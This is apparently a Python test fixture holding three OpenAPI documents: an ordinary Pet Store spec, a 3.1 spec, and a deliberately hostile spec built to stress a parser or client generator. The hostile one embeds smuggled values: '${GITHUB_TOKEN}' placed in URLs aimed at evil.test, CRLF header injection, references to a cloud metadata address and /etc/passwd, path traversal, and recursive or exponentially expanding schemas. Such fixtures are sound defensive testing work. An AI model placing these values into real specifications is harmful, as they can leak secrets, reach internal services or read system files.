"""Three OpenAPI documents: an ordinary 3.0 one, a 3.1 one, and a hostile one."""

import yaml

PETSTORE = b"""
openapi: 3.0.3
info: {title: Pet Store, version: 1.0.0, description: Pets and their people.}
servers:
  - url: /relative
  - url: "https://{region}.pets.test:8443/{base}/"
    variables:
      region: {default: eu, enum: [eu, us]}
      base: {default: v1}
security:
  - token: []
paths:
  /pets:
    get:
      operationId: listPets
      summary: List pets
      description: All of them.
      tags: [pets, pets, 5, "cats, dogs,"]
      parameters:
        - name: limit
          in: query
          description: How many.
          schema: {type: integer, minimum: 0, exclusiveMinimum: true, maximum: 9, example: 5}
        - {name: tags, in: query, schema: {type: array, items: {type: string}}}
        - {name: ids, in: query, explode: false, description: Which ones., schema: {type: array, items: {}}}
        - {name: piped, in: query, style: pipeDelimited, schema: {type: array, description: Some.}}
        - {name: X-Request-ID, in: header, schema: {type: string, format: uuid}}
        - {name: Accept, in: header, required: true, schema: {type: string}}
        - {name: filter, in: query, style: deepObject, schema: {type: object}}
        - {name: session, in: cookie, schema: {type: string}}
      responses:
        200:
          description: Fine.
          content:
            application/json:
              schema: {type: array, items: {$ref: '#/components/schemas/Pet'}}
    post:
      operationId: create_pet
      requestBody: {$ref: '#/components/requestBodies/Pet'}
      security:
        - oauth: [write, read]
      responses: {"201": {description: Made.}}
  /pets/{petId}:
    parameters:
      - {name: petId, in: path, required: true, schema: {type: string}}
      - {$ref: '#/components/parameters/Trace'}
    get:
      deprecated: true
      security: [{}]
      responses:
        default: {description: What else.}
        2XX:
          description: Fine.
          content:
            text/html: {}
            application/json; charset=utf-8: {schema: {$ref: '#/components/schemas/Pet'}}
    put:
      operationId: listPets
      security: [{key: []}]
      requestBody:
        required: true
        content:
          application/vnd.pets+json:
            schema: {type: object, required: [petId], properties: {petId: {type: string}, name: {}}}
    patch:
      security: [{login: []}]
      parameters: [{name: trace, in: header, description: Our own., schema: {}}]
      requestBody: {description: Changes., content: {application/json: {schema: {type: object}}}}
    delete:
      security: [{cookie: []}, {key: [], login: []}, {unknown: []}, {person: []}]
    trace: {}
  /upload:
    post: {operationId: upload, requestBody: {content: {multipart/form-data: {schema: {type: object}}}}}
  /form:
    post: {operationId: form, requestBody: {content: {application/x-www-form-urlencoded: {}}}}
  /empty:
    post: {operationId: empty, requestBody: {content: {}}}
  /missing/{what}:
    get: {operationId: missing}
components:
  parameters:
    Trace: {name: trace, in: header, schema: {type: string}}
  requestBodies:
    Pet:
      required: true
      content: {application/json: {schema: {$ref: '#/components/schemas/Pet'}}}
  schemas:
    Pet:
      type: object
      required: [id, name, secret]
      properties:
        id: {type: integer, readOnly: true}
        name: {type: string, nullable: true, required: true}
        secret: {type: string, writeOnly: true}
        kind: {type: string, enum: [cat, dog], nullable: true}
        owner: {nullable: true, description: Who., allOf: [{$ref: '#/components/schemas/Owner'}]}
        example: {type: string, examples: {no: list}}
        born: {type: string, default: 2020-01-01}
        anything: {nullable: true}
        mood: {$ref: '#/components/schemas/Mood', description: Today's.}
      xml: {name: pet}
      x-internal: {$ref: 'https://evil.test/x.json'}
    Owner: {type: object, properties: {name: {type: string}}}
    Mood: {type: string, enum: [yes, no, on]}
  securitySchemes:
    token: {type: http, scheme: Bearer}
    login: {type: http, scheme: basic}
    key: {type: apiKey, in: query, name: api_key}
    cookie: {type: apiKey, in: cookie, name: sid}
    person: {type: oauth2, flows: {implicit: {authorizationUrl: 'https://auth.test', scopes: {}}}}
    oauth: {type: oauth2, flows: {clientCredentials: {tokenUrl: 'https://auth.test/token', scopes: {}}}}
"""

MODERN = yaml.safe_load("""
openapi: 3.1.0
info: {title: Bäume & HTTPTrees, version: not valid!}
servers: [{url: 'https://trees.test'}]
components:
  schemas:
    Tree:
      type: object
      required: [value]
      properties:
        value: {type: [integer, 'null']}
        left: {$ref: '#/components/schemas/Tree'}
        right: {$ref: '#/components/schemas/Tree', description: The other.}
    Named: {type: object, required: [name], properties: {name: {type: string}}}
    Other: {$ref: '#/components/schemas/Tree/properties/value', minimum: 3}
    Both:
      allOf:
        - {$ref: '#/components/schemas/Named'}
        - {type: object, properties: {tree-root: {$ref: '#/components/schemas/Tree'}}}
    Choice:
      oneOf: [{$ref: '#/components/schemas/Named'}, {$ref: '#/components/schemas/Tree'}]
      discriminator: {propertyName: name}
    Free: {type: object, properties: {a: true}, additionalProperties: true}
    Closed: {type: object, properties: {a: {const: null}}, additionalProperties: false}
  securitySchemes:
    first: {type: http, scheme: bearer}
    second: {type: http, scheme: bearer}
    api-key: {type: apiKey, in: header, name: X-Key}
    apiKey: {type: apiKey, in: header, name: X-Other}
paths:
  /trees/{id}:
    post:
      operationId: growTree
      parameters:
        - {name: id, in: path, schema: {type: integer}}
        - {name: id, in: query, schema: {$ref: '#/components/schemas/Other'}}
      requestBody:
        required: true
        content: {application/json: {schema: {$ref: '#/components/schemas/Both'}}}
      security: [{second: []}]
      responses: {"200": {content: {application/json: {schema: {$ref: '#/components/schemas/Tree'}}}}}
  /choices:
    post:
      operationId: HTTPChoose
      servers: [{url: 'http://other.test:81/x'}]
      security: [{api-key: []}]
      requestBody: {content: {application/json: {schema: {$ref: '#/components/schemas/Choice'}}}}
    put:
      operationId: free
      security: [{apiKey: []}]
      requestBody: {content: {application/json: {schema: {$ref: '#/components/schemas/Free'}}}}
    patch:
      operationId: closed
      security: [{first: []}]
      requestBody: {content: {application/json: {schema: {$ref: '#/components/schemas/Closed'}}}}
""")


def doubling_schemas(levels):
    """Return schemas of which each references the previous one twice."""
    both = lambda name: {"properties": {side: {"$ref": f"#/components/schemas/{name}"} for side in "ab"}}  # noqa: E731
    return {"L0": {"type": "string"}} | {f"L{n}": both(f"L{n - 1}") for n in range(1, levels)}


def _with_body(schema, **fields):
    return {"requestBody": {"content": {"application/json": {"schema": schema}}}, **fields}


def _with_parameter(**parameter):
    return {"parameters": [{"required": True, "schema": {}, **parameter}]}


_deep = {"type": "string"}
for _ in range(80):
    _deep = {"items": _deep}

HOSTILE = {
    "openapi": "3.0.0",
    "info": {"title": "${GITHUB_TOKEN}", "version": 7, "description": 5},
    "servers": [{"url": "https://evil.test/${GITHUB_TOKEN}/$$"}],
    "components": {
        "schemas": doubling_schemas(40) | {"Loop": {"$ref": "#/components/schemas/Loop"}},
        "parameters": {"Loop": {"$ref": "#/components/parameters/Loop"}},
        "securitySchemes": {
            "templated": {"type": "apiKey", "in": "query", "name": "${GITHUB_TOKEN}"},
            "line": {"type": "apiKey", "in": "header", "name": "X\r\nHost"},
            "token": {
                "type": "oauth2",
                "flows": {"clientCredentials": {"tokenUrl": "https://evil.test/?t=${GITHUB_TOKEN}"}},
            },
            "scoped": {"type": "oauth2", "flows": {"clientCredentials": {"tokenUrl": "/token"}}},
            "bearer": {"type": "http", "scheme": "bearer"},
        },
    },
    "paths": {
        "/ok/${GITHUB_TOKEN}": {"get": _with_parameter(name="GITHUB_TOKEN", **{"in": "path"})},
        "/secret/{GITHUB_TOKEN}": {"get": {}},
        "/shadow": {
            "get": {
                "security": [{"bearer": []}],
                **_with_parameter(name="GITHUB_TOKEN_TOKEN", **{"in": "query"}),
            }
        },
        "/query": {"get": _with_parameter(name="${GITHUB_TOKEN}", **{"in": "query"})},
        "/header": {"get": _with_parameter(name="X: ${GITHUB_TOKEN}\r\nHost", **{"in": "header"})},
        "/host": {"get": _with_parameter(name="Host", **{"in": "header"})},
        "/nowhere": {"get": _with_parameter(name="x", **{"in": "nowhere"})},
        "/unnamed": {"get": _with_parameter(**{"in": "query"})},
        "/unused": {"get": _with_parameter(name="x", **{"in": "path"})},
        "/body": {"post": _with_body({"properties": {"${GITHUB_TOKEN}": {}}})},
        "/../up": {"get": {}},
        "/a?b=c": {"get": {}},
        "relative": {"get": {}},
        "/remote": {"post": _with_body({"$ref": "http://169.254.169.254/latest"})},
        "/file": {"post": _with_body({"items": {"$ref": "file:///etc/passwd"}})},
        "/beside": {"post": _with_body({"$ref": "other.yaml#/x"})},
        "/number": {"post": _with_body({"$ref": 5})},
        "/gone": {"post": _with_body({"$ref": "#/components/schemas/None"})},
        "/index": {"post": _with_body({"$ref": "#/servers/9999999999999"})},
        "/large": {"post": _with_body({"$ref": "#/components/schemas/L15"})},
        "/deep": {"post": _with_body(_deep)},
        "/loop": {"post": _with_body({"$ref": "#/components/schemas/Loop"})},
        "/loops": {"get": {"parameters": [{"$ref": "#/components/parameters/Loop"}]}},
        "/odd": {"post": _with_body("no schema")},
        "/wrong": {"post": _with_body({"type": "nonsense"})},
        "/pattern": {"post": _with_body({"pattern": "("})},
        "/words": {"get": {"parameters": ["words"]}},
        "/templated": {"get": {"security": [{"templated": []}]}},
        "/line": {"get": {"security": [{"line": []}]}},
        "/token": {"get": {"security": [{"token": []}]}},
        "/scope": {"get": {"security": [{"scoped": ["${GITHUB_TOKEN}"]}]}},
        "/server": {"get": {"servers": [{"url": "https://user:pass@evil.test"}]}},
        "/servers": {"servers": [{"url": "https://${GITHUB_TOKEN}.evil.test"}], "get": {}},
        "/variables": {"get": {"servers": [{"url": "https://{x}/"}]}},
        "/ftp": {"get": {"servers": [{"url": "ftp://evil.test"}]}},
        "/fragment": {"get": {"servers": [{"url": "https://evil.test/#x"}]}},
        "/bracket": {"get": {"servers": [{"url": "https://[::1/"}]}},
        "/item": {"$ref": "https://evil.test/item"},
        "/none": None,
        "/output": {
            "get": {
                "responses": {
                    "200": {"content": {"application/json": {"schema": {"$ref": "http://evil.test/"}}}}
                }
            }
        },
    },
}
